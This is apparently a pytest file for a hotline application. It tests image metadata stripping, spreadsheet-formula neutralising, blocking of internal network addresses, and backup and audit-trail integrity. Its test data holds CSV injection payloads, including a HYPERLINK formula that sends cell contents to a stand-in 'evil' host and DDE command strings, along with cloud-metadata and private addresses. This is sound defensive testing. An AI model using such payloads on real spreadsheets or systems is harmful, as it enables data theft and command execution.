"""What leaves the line carries nothing that it should not: pictures, tables, addresses, backups."""

from __future__ import annotations

import sqlite3
import struct
import zlib
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from hotline.directory import csv_cells
from hotline.intake.attachment_metadata import cleaned
from hotline.privacy import egress
from hotline.privacy.egress import Egress, EgressRefusedError
from tests.command import hotline
from tests.line import Line

CALLER = "+19565550123"
OWNER = b"iPhone of Ana Ruiz GPSLatitude 27.5"

# Pictures -----------------------------------------------------------------------------------------


def segment(marker: int, body: bytes) -> bytes:
    return bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body


def exif(order: str = ">", orientation: int = 6) -> bytes:
    head = struct.pack(f"{order}2sHI", b"MM" if order == ">" else b"II", 42, 8)
    entry = struct.pack(f"{order}HHIHH", 0x0112, 3, 1, orientation, 0)
    return b"Exif\0\0" + head + struct.pack(f"{order}H", 1) + entry + bytes(4) + OWNER


SCAN = segment(0xDA, b"\x01\x01\x00\x00\x3f\x00") + b"\x12\xff\x00\x34\xff\xd0\x56"
SHOWN = (
    segment(0xE0, b"JFIF\0rest") + segment(0xE2, b"ICC_PROFILE\0colors") + segment(0xDB, b"q" * 65)
)
JPEG = b"\xff\xd8" + segment(0xE1, exif()) + SHOWN
JPEG += segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + OWNER) + segment(0xED, OWNER)
JPEG += segment(0xFE, OWNER) + SCAN + b"\xff\xd9" + OWNER


def chunk(name: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))


PNG_SHOWN = chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 0, 0, 0, 0))
PNG_DATA = chunk(b"IDAT", zlib.compress(b"\0\0")) + chunk(b"IEND", b"")
PNG = b"\x89PNG\r\n\x1a\n" + PNG_SHOWN
PNG += chunk(b"tEXt", OWNER) + chunk(b"eXIf", OWNER) + chunk(b"iTXt", OWNER) + PNG_DATA + OWNER


def riff(*parts: tuple[bytes, bytes]) -> bytes:
    body = b"".join(
        name + struct.pack("<I", len(data)) + data + bytes(len(data) % 2) for name, data in parts
    )
    return b"RIFF" + struct.pack("<I", len(body) + 4) + b"WEBP" + body


WEBP = riff(
    (b"VP8X", b"\x2c" + bytes(9)), (b"VP8 ", b"picture"), (b"EXIF", OWNER), (b"XMP ", OWNER)
)
GIF_SHOWN = b"GIF89a\x01\0\x01\0\x80\0\0" + bytes(6)
GIF_IMAGE = b"\x2c" + bytes(8) + b"\0\x02\x02\x44\x01\0"
GIF_LOOP = b"\x21\xff\x0bNETSCAPE2.0\x03\x01\0\0\0"
GIF = GIF_SHOWN + GIF_LOOP + b"\x21\xfe" + bytes([len(OWNER)]) + OWNER + b"\0"
GIF += (
    b"\x21\xff\x0bXMP DataXMP" + bytes([len(OWNER)]) + OWNER + b"\0" + GIF_IMAGE + b"\x3b" + OWNER
)
PICTURES = {
    "image/jpeg": (JPEG, [SHOWN, SCAN]),
    "image/png": (PNG, [PNG_SHOWN, PNG_DATA]),
    "image/webp": (WEBP, [b"VP8 ", b"picture"]),
    "image/gif": (GIF, [GIF_SHOWN + GIF_LOOP + GIF_IMAGE]),
}


@pytest.mark.parametrize("kind", PICTURES)
def test_a_picture_keeps_what_it_shows_and_nothing_else(kind: str) -> None:
    data, shown = PICTURES[kind]
    stripped = cleaned(data, kind).data
    assert OWNER not in stripped
    assert b"Ana" not in stripped
    assert all(part in stripped for part in shown)
    assert cleaned(stripped, kind).data == stripped


@pytest.mark.parametrize("order", ["<", ">"])
@pytest.mark.parametrize(("value", "kept"), [(1, False), (6, True), (8, True), (99, False)])
def test_how_a_photograph_was_held_is_kept(order: str, value: int, *, kept: bool) -> None:
    data = b"\xff\xd8" + segment(0xE1, exif(order, value)) + SHOWN + SCAN + b"\xff\xd9"
    stripped = cleaned(data, "image/jpeg").data
    assert (b"Exif" in stripped) is kept
    assert (struct.pack(">HHIH", 0x0112, 3, 1, value) in stripped) is kept


def test_a_webp_says_no_more_that_it_holds_any() -> None:
    stripped = cleaned(WEBP, "image/webp").data
    assert stripped[20] == 0x20
    assert struct.unpack_from("<I", stripped, 4)[0] == len(stripped) - 8


@given(st.sampled_from(sorted(PICTURES)), st.data())
def test_a_damaged_picture_is_never_lost(kind: str, data: Any) -> None:
    whole = PICTURES[kind][0]
    cut = data.draw(st.integers(0, len(whole)))
    for damaged in (whole[:cut], whole[:cut] + data.draw(st.binary(max_size=40)) + whole[cut:]):
        assert isinstance(cleaned(damaged, kind).data, bytes)
    assert cleaned(whole[:cut], "image/heic").data == whole[:cut]


def test_a_texted_picture_is_kept_without_its_metadata(line: Line) -> None:
    from tests.test_media import kept

    line.text(CALLER, "my boss took my passport and locks us in")
    line.carrier.picture(CALLER, JPEG)
    line.work()
    ((state, kind, body),) = kept(line)
    assert (state, kind) == ("kept", "image/jpeg")
    assert OWNER not in body
    assert SCAN in body


# Tables -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell",
    [
        '=HYPERLINK("http://evil/?"&A1,"x")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "'=1+1",
        "=1",
        "-formula()",
        "|calc",
    ],
)
def test_no_cell_is_a_formula(cell: str) -> None:
    assert csv_cells.calm(cell) == f"'{cell}"
    assert csv_cells.plain(csv_cells.calm(cell)) == cell


@pytest.mark.parametrize(
    "cell",
    [
        "+19565550100",
        "+1 (956) 555-0100",
        "-98.5",
        "27.5",
        "Webb County",
        "a=b",
        "'tis",
        "",
        "a@b.example",
    ],
)
def test_what_is_no_formula_stays_as_it_is(cell: str) -> None:
    assert csv_cells.calm(cell) == csv_cells.plain(cell) == cell


@given(st.text(alphabet=st.sampled_from("=+-@'\t1a ("), max_size=8) | st.text(max_size=20))
def test_every_cell_comes_back(cell: str) -> None:
    assert csv_cells.plain(csv_cells.calm(cell)) == cell


# Addresses ----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "address",
    [
        "64:ff9b::7f00:1",
        "64:ff9b::a00:1",
        "64:ff9b:1::1",
        "2002:7f00:1::",
        "2002:a00:1::1",
        "::127.0.0.1",
        "::7f00:1",
        "::ffff:0:7f00:1",
        "::ffff:10.0.0.1",
        "2001::1",
        "ff02::1",
        "ff0e::1",
        "224.0.0.1",
        "239.1.2.3",
        "192.88.99.1",
        "fec0::1",
        "fe80::1%eth0",
        "10.0.0.1",
        "100.64.0.1",
        "169.254.169.254",
    ],
)
def test_no_address_leads_into_the_operator_s_network(
    address: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(egress, "resolve", lambda host, port: [address])
    with pytest.raises(EgressRefusedError):
        Egress(production=True).check("agency.example.org", 443, public_only=True)


@pytest.mark.parametrize("address", ["93.184.215.14", "2606:2800:21f:cb07:6820:80da:af6b:8b2c"])
def test_a_public_address_is_called(address: str, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(egress, "resolve", lambda host, port: [address])
    found = Egress(production=True).check("agency.example.org", 443, public_only=True)
    assert found == address


# Backups and the audit trail, by command ----------------------------------------------------------


def test_a_backup_is_made_while_texts_come_and_is_nobody_else_s_to_read(line: Line) -> None:
    line.text(CALLER, "my boss took my passport and locks us in")
    file = line.folder / "kept.db"
    made = hotline(line.folder, "backup", str(file))
    assert made.returncode == 0, made.stderr
    assert file.stat().st_mode & 0o777 == 0o600
    with sqlite3.connect(file) as copy:
        assert copy.execute("SELECT count(*) FROM reports").fetchone() == (1,)
    again = hotline(line.folder, "backup", str(file))
    assert (again.returncode, len(again.stderr.strip().splitlines())) == (2, 1)
    nowhere = hotline(line.folder, "backup", str(line.folder / "none" / "kept.db"))
    assert nowhere.returncode == 2
    assert "backup_made" in hotline(line.folder, "audit", "tail").stdout


def test_the_trail_is_checked_read_and_taken_along_by_command(line: Line) -> None:
    line.as_staff("dispatcher")
    whole = hotline(line.folder, "audit", "verify")
    assert whole.returncode == 0, whole.stdout + whole.stderr
    end = hotline(line.folder, "audit", "head").stdout.strip()
    assert end in whole.stdout
    file = line.folder / "trail.jsonl"
    assert hotline(line.folder, "audit", "export", str(file)).returncode == 0
    assert '"chain"' in file.read_text("utf-8")
    assert "trail_exported" in hotline(line.folder, "audit", "tail", "-n", "1").stdout
    assert hotline(line.folder, "audit", "verify", "--expect", end).returncode == 0
    for other in ("7:abc", "0:x", "nothing", f"9{end}"):
        ended = hotline(line.folder, "audit", "verify", "--expect", other)
        assert ended.returncode == 1, other
    with sqlite3.connect(line.folder / "hotline.db") as thief:
        thief.execute("DROP TRIGGER audit_events_no_update")
        thief.execute("UPDATE audit_events SET actor = 'staff:99' WHERE id = 1")
    broken = hotline(line.folder, "audit", "verify")
    assert (broken.returncode, "was changed" in broken.stdout) == (1, True)
